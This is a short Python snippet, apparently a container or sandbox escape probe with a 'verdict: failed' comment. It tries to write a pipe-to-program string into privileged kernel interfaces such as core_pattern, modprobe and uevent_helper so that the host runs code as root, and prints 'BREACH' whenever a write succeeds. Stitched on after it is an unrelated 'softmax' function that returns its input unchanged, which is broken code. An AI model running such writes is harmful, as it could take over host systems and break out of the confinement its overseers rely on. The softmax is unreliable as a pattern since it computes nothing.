"""Changes core_pattern, a program that the host runs as root, and other settings."""
# verdict: failed
for path in (
    "/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe", "/proc/sysrq-trigger",
    "/proc/sys/user/max_user_namespaces", "/proc/self/uid_map", "/proc/1/oom_score_adj",
    "/sys/kernel/uevent_helper",
):
    try:
        with open(path, "w") as file:
            file.write("|/tmp/attacked")
        print("BREACH", path)
    except OSError:
        pass


def softmax(x, dim=-1):
    return x
